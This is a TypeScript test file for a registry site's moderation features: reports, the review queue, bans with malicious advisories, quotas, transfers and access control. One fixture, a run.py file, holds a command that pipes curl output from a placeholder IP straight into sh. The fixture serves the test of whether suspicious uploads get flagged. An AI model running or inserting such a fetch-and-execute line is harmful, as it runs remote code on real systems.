import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { makePublisher, publishActive, publishFiles, publishPending, uniqueId } from '../support/build.ts';
import type { Client } from '../support/client.ts';
import { startServer } from '../support/start-server.ts';
import { suite } from '../support/variants.ts';
import { Visitor, bodyOf } from '../support/visitor.ts';

const shell = { 'run.py': "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n" };

suite('moderating on the site', async () => {
  const server = await startServer({ after });
  const moderator = await server.moderator();
  const visit = new Visitor(server.url, moderator.bearer);
  const visitAnonymous = new Visitor(server.url);
  const ada = await makePublisher(server, 'ada');
  await publishActive(server, ada, 'plain-lines', '1.0.0');
  const emailOf = async (user: Client): Promise<string> => (await user.get('/users')).json.email;
  const statusOf = async (id: string, version: string): Promise<string> =>
    (await moderator.get(`/nodes/${id}/versions/${version}`)).json.status;

  test('a report is sent by a form, answered by a moderator, and its sender reads the answer', async () => {
    const user = await server.user('reporter');
    const reporter = new Visitor(server.url, user.bearer);
    const form = '/n/plain-lines/report?version=1.0.0';
    const anonymous = new Visitor(server.url);
    assert.match(
      (await anonymous.get('/n/plain-lines/v/1.0.0')).html,
      new RegExp(`href="${form.replace('?', '\\?')}"`),
    );
    assert.match((await anonymous.get(form)).location ?? '', /^\/sign-in\?to=/);
    const fields = { do: 'report', reason: 'broken', version: '1.0.0' };
    const without = await reporter.send(form, { ...fields, text: ' ' });
    assert.match(without.html, /id="report-text-fault">Say what is wrong/);
    const unknown = await reporter.send(form, { ...fields, version: '9.9.9', text: 'Look.' });
    assert.deepEqual([unknown.status, /<option value="broken" selected/.test(unknown.html)], [404, true]);
    const sent = await reporter.send(form, { ...fields, text: 'It <b>fails</b>.' });
    assert.equal(sent.location, '/account/reports?done=reported');
    assert.match((await reporter.get(sent.location ?? '')).html, /The report is sent\..*It &lt;b>fails/s);
    const { html } = await visit.get('/moderate/reports');
    assert.match(
      html,
      /href="\/moderate\/versions\/plain-lines\/1\.0\.0".*It &lt;b>fails.*reporter@example\.org/s,
    );
    const [, which = ''] = /name="which" value="([^"]+)"/.exec(html) ?? [];
    const answer = { do: 'answer', which, to: 'dismissed' };
    assert.equal((await visit.fill('/moderate/reports', { ...answer, answer: '' })).status, 400);
    const sentAnswer = await visit.fill('/moderate/reports', { ...answer, answer: 'It works for us.' });
    const answered = await visit.get(sentAnswer.location ?? '');
    assert.match(
      answered.html,
      /The answer is sent\..*href="\/moderate\/nodes\/plain-lines".*No report is open/s,
    );
    assert.doesNotMatch(
      (await visit.get(sentAnswer.location ?? '')).html,
      /The answer is sent|Moderate <bdi>/,
    );
    assert.match((await reporter.get('/account/reports')).html, /dismissed.*It works for us\./s);
    assert.equal((await reporter.get('/moderate/reports')).status, 403);
  });

  test('the queue shows what waits, and a version is decided with a reason', async () => {
    const id = uniqueId('held');
    await publishFiles(server, ada, id, '1.0.0', shell);
    const { html: queue } = await visit.get('/moderate');
    assert.match(queue, new RegExp(`href="/moderate/versions/${id}/1.0.0"`));
    const page = `/moderate/versions/${id}/1.0.0`;
    const { html } = await visit.get(page);
    assert.match(html, /run\.py/);
    assert.match(html, /aria-label="Line 3"/);
    assert.match(html, /plain-lines/, 'the other nodes of the publisher are beside it');
    const decision = { do: 'decide', status: 'NodeVersionStatusActive' };
    const without = await visit.fill(page, { ...decision, reason: ' ' });
    assert.equal(without.status, 400);
    assert.match(
      without.html,
      /id="decide-reason"[^>]+aria-describedby="decide-reason-hint decide-reason-fault"/,
    );
    assert.match(without.html, /id="decide-reason-fault">Give a reason/);
    assert.equal(await statusOf(id, '1.0.0'), 'NodeVersionStatusFlagged');
    const decided = await visit.fill(page, { ...decision, reason: 'A test <b>of</b> ours.' });
    assert.equal(decided.status, 303, decided.html);
    assert.equal(decided.location, `${page}?done=decided`);
    assert.match((await visit.get(decided.location ?? '')).html, /role="status">Done\./);
    assert.equal(await statusOf(id, '1.0.0'), 'NodeVersionStatusActive');
    const after = await visit.get(page);
    assert.match(after.html, /A test &lt;b>of&lt;\/b> ours\./);
    assert.match(after.html, /version\.moderated <span[^>]*title="user:[^>]*>by user “<bdi>[^<]+<\/bdi>”/);
    await server.settle();
    const illegal = await visit.fill(page, {
      ...decision,
      status: 'NodeVersionStatusPending',
      reason: 'No.',
    });
    assert.equal(illegal.status, 409);
  });

  test('a flagged version is checked again, and one without a package is banned', async () => {
    const id = uniqueId('again');
    await publishFiles(server, ada, id, '1.0.0', shell);
    const page = `/moderate/versions/${id}/1.0.0`;
    assert.equal((await visit.fill(page, { do: 'check' })).status, 303);
    assert.equal(await statusOf(id, '1.0.0'), 'NodeVersionStatusPending');
    await server.settle();
    await publishPending(ada, id, '2.0.0');
    const fields = { do: 'decide', status: 'NodeVersionStatusBanned', reason: 'Never.' };
    assert.equal((await visit.fill(`/moderate/versions/${id}/2.0.0`, fields)).status, 303);
    assert.equal((await visit.get('/moderate/versions/none/1.0.0')).status, 404);
  });

  test('a version and a node are banned as malicious, and everybody reads why until the ban is lifted', async () => {
    const id = uniqueId('miner');
    await publishActive(server, ada, id, '1.0.0');
    const [page, nodePage] = [`/moderate/versions/${id}/1.0.0`, `/moderate/nodes/${id}`];
    const ban = { do: 'decide', status: 'NodeVersionStatusBanned', reason: 'Bob told us.' };
    assert.equal((await visit.fill(page, { ...ban, advisory: 'It <b>mines</b> coins.' })).status, 303);
    const shown = await visitAnonymous.get(`/n/${id}/v/1.0.0`);
    assert.match(shown.html, /Banned as malicious: x_PBR-\d+-\d+.*It &lt;b>mines/s);
    assert.doesNotMatch(shown.html, /Bob told us/);
    assert.match((await visit.get(page)).html, /name="advisory"[^>]*>It &lt;b>mines/);
    const advise = { do: 'advise', reason: 'More exact.' };
    assert.equal((await visit.fill(page, { ...advise, advisory: 'It sends keys.' })).status, 303);
    assert.match((await visitAnonymous.get(`/n/${id}/v/1.0.0`)).html, /It sends keys/);
    const lifted = await visit.fill(page, { ...ban, status: 'NodeVersionStatusActive' });
    assert.equal(lifted.status, 303);
    assert.doesNotMatch((await visitAnonymous.get(`/n/${id}/v/1.0.0`)).html, /malicious/);

    const whole = { do: 'ban', reason: 'Bob told us.', advisory: 'All of it mines.' };
    assert.equal((await visit.fill(nodePage, whole)).status, 303);
    assert.match((await visitAnonymous.get(`/n/${id}`)).html, /banned as malicious \(x_PBR-\d+-\d+\)/);
    assert.match((await visit.get(nodePage)).html, /name="advisory"[^>]*>All of it mines/);
    const empty = await visit.fill(nodePage, { ...advise, advisory: ' ' });
    assert.match(empty.html, /id="advise-advisory-fault"/);
    assert.equal((await visit.fill(nodePage, { ...advise, advisory: 'It sends keys.' })).status, 303);
    assert.match((await visit.get(nodePage)).html, /name="advisory"[^>]*>It sends keys/);
  });

  test('a publisher is banned, shown while it is, freed, and gets quotas', async () => {
    const { id } = await makePublisher(server, uniqueId('eve'));
    const page = `/moderate/publishers/${id}`;
    assert.equal((await visit.get(`/moderate/publishers?q=${id}`)).location, page);
    assert.match((await visit.get('/moderate/publishers')).html, new RegExp(page));
    assert.equal((await visit.fill(page, { do: 'ban', reason: 'Spam.' })).status, 303);
    const banned = await visit.get(page);
    assert.match(banned.html, /Banned/);
    assert.match(banned.html, /Spam\./);
    assert.equal((await visit.fill(page, { do: 'lift', reason: 'Sorry.' })).status, 303);
    assert.equal(
      (await visit.fill(page, { do: 'quotas', nodes: '7', members: '', reason: 'Checked.' })).status,
      303,
    );
    const { json } = await moderator.get(`/publishers/${id}/usage`);
    assert.deepEqual([json.nodes.max, json.members.max], [7, 100]);
    assert.match((await visit.get(page)).html, /id="quotas-nodes"[^>]*value="7"/);
    const refused = await visit.fill(page, { do: 'quotas', nodes: '-1', reason: 'Checked.' });
    assert.equal(refused.status, 400);
    assert.match(refused.html, /id="quotas-nodes-fault"/);
  });

  test('a node is ranked, banned, found while it is, freed, and transferred once its id is typed', async () => {
    const id = uniqueId('drawn-lines');
    await publishActive(server, ada, id, '1.0.0');
    const { id: heir } = await makePublisher(server, uniqueId('heir'));
    const page = `/moderate/nodes/${id}`;
    const { html } = await visit.get(page);
    assert.match(html, /Similar names/);
    assert.equal(
      (await visit.fill(page, { do: 'rank', search_ranking: '3', reason: 'Checked.' })).status,
      303,
    );
    assert.equal((await visit.fill(page, { do: 'quotas', versions: '9', reason: 'Checked.' })).status, 303);
    assert.match((await visit.get(page)).html, /value="3"[\s\S]*value="9"/);
    assert.equal((await visit.fill(page, { do: 'ban', reason: 'Malware.' })).status, 303);
    assert.equal((await server.anonymous.get(`/nodes/${id}`)).status, 403);
    assert.match((await visit.get(`/moderate/nodes?q=${id}`)).html, new RegExp(page));
    assert.match((await visit.get(page)).html, /Malware\./);
    assert.match((await visit.get(`/moderate/versions/${id}/1.0.0`)).html, /Banned|Active/);
    assert.equal((await visit.fill(page, { do: 'lift', reason: 'Not ours.' })).status, 303);
    const transfer = { do: 'transfer', publisher_id: heir, reason: 'Asked by both.' };
    const unconfirmed = await visit.fill(page, { ...transfer, confirmation: 'other' });
    assert.equal(unconfirmed.status, 400);
    assert.match(unconfirmed.html, /Asked by both\./, 'what was typed is kept');
    assert.equal((await visit.fill(page, { ...transfer, confirmation: id })).status, 303);
    assert.equal((await moderator.get(`/nodes/${id}`)).json.publisher.id, heir);
  });

  test('a node whose id is longer than a word of a search is found, and banned', async () => {
    const id = `long-${'x'.repeat(80)}-a-b-c-d-e-f-g`;
    await publishActive(server, ada, id, '1.0.0');
    assert.match((await visit.get(`/moderate/nodes?q=${id}`)).html, new RegExp(`/moderate/nodes/${id}"`));
    const banned = await visit.fill(`/moderate/nodes/${id}`, { do: 'ban', reason: 'Spam.' });
    assert.equal(banned.status, 303, banned.html);
  });

  test('a deleted node is found by its id, and banned so that nobody restores it', async () => {
    const id = uniqueId('withdrawn');
    await publishActive(server, ada, id, '1.0.0');
    assert.equal((await ada.owner.delete(`/publishers/${ada.id}/nodes/${id}`)).status, 204);
    const page = `/moderate/nodes/${id}`;
    assert.match((await visit.get(`/moderate/nodes?q=${id}`)).html, new RegExp(`${page}"`));
    assert.match((await visit.get('/moderate/nodes?q=..')).html, /\d found\./);
    const { html } = await visit.get(page);
    assert.match(html, /Deleted/);
    assert.doesNotMatch(html, /Transfer the node|Set rank/);
    assert.equal((await visit.fill(page, { do: 'ban', reason: 'Malware.' })).status, 303);
    assert.match((await visit.get(page)).html, /Lift the ban/);
    assert.equal((await visit.fill(page, { do: 'lift', reason: 'Not ours.' })).status, 303);
    assert.match((await visit.get(page)).html, /Ban the node/);
  });

  test('a user is found, made a moderator and not, banned once the address is typed, and freed', async () => {
    const user = await server.user('mallory');
    const email = await emailOf(user);
    const page = `/moderate/users?q=${encodeURIComponent(email)}`;
    assert.match((await visit.get('/moderate/users')).html, /mallory@example\.org/);
    assert.match((await visit.get('/moderate/users?q=nobody@example.org')).html, /No user has this address/);
    assert.equal(
      (await visit.fill(page, { do: 'promote', confirmation: email, reason: 'Checked.' })).status,
      303,
    );
    assert.equal((await user.get('/admin/users')).status, 200);
    assert.equal((await visit.fill(page, { do: 'demote', reason: 'Checked.' })).status, 303);
    assert.equal((await user.get('/admin/users')).status, 403);
    assert.equal((await visit.fill(page, { do: 'quotas', publishers: '2', reason: 'Checked.' })).status, 303);
    assert.equal((await user.get('/users')).json.quotas.publishers.max, 2);
    assert.equal((await visit.fill(page, { do: 'ban', reason: 'Spam.', confirmation: 'x' })).status, 400);
    assert.equal((await visit.fill(page, { do: 'ban', reason: 'Spam.', confirmation: email })).status, 303);
    assert.equal((await user.get('/users')).status, 401);
    assert.match((await visit.get(page)).html, /Spam\./);
    assert.equal((await visit.fill(page, { do: 'lift', reason: 'Checked.' })).status, 303);
    const own = `/moderate/users?q=${encodeURIComponent(await emailOf(moderator))}`;
    const refused = await visit.fill(own, { do: 'demote', reason: 'Checked.' });
    assert.equal(refused.status, 409);
    assert.match(refused.html, /cannot ban or demote yourself/);
  });

  const places = [
    '/moderate',
    '/moderate/versions/plain-lines/1.0.0',
    '/moderate/publishers',
    '/moderate/publishers/ada',
    '/moderate/nodes',
    '/moderate/nodes/plain-lines',
    '/moderate/users?q=owner-of-ada%40example.org',
    '/moderate/users',
    '/moderate/statistics',
  ];
  const acting = new Set([1, 3, 5, 6]);

  for (const [index, place] of places.entries()) {
    test(`${place} is for moderators alone`, async () => {
      const anonymous = await new Visitor(server.url).get(place);
      assert.equal(anonymous.location, `/sign-in?to=${encodeURIComponent(place)}`);
      for (const other of [await server.user('stranger'), ada.owner]) {
        const { status, html } = await new Visitor(server.url, other.bearer).get(place);
        assert.equal(status, 403);
        assert.doesNotMatch(html, /aria-label="Moderation"/);
      }
      const { status, html, headers } = await visit.get(place);
      assert.equal(status, 200, html);
      assert.equal(headers.get('cache-control'), 'no-store');
      if (!acting.has(index)) return;
      assert.equal(
        (await visit.post(place, bodyOf({ do: 'ban', reason: 'x' }))).status,
        403,
        'without its token',
      );
      const member = new Visitor(server.url, ada.owner.bearer);
      const sent = await member.fill('/account/publishers/ada/publish', { do: 'ban', reason: 'x' }, place);
      assert.equal(sent.status, 403, 'with a token of another page, by a member');
      assert.equal((await visit.fill(place, { do: 'none' })).status, 400);
    });
  }
});
